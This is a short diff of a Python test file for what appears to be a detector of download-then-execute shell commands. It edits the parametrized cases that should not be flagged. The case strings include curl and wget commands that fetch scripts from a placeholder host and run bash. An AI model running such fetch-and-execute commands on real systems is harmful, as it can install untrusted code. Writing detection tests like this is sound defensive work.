@@ -149,7 +149,7 @@ def test_file_named_after_the_url_then_run(command: str) -> None:
         "curl -O https://dl.example/payload.sh && bash other.sh",
         "curl -o out.sh https://dl.example/payload.sh && bash payload.sh",
         "wget -O - https://dl.example/setup.sh > /dev/null; bash setup.sh",
-        "curl -O https://github.com/x/y/releases/download/v1/tool.tar.gz && tar xzf tool.tar.gz",
+        "curl -O https://github.com/x/y/releases/download/v1/notes.txt && cat notes.txt",
     ],
 )
 def test_other_file_or_no_download_run(command: str) -> None:
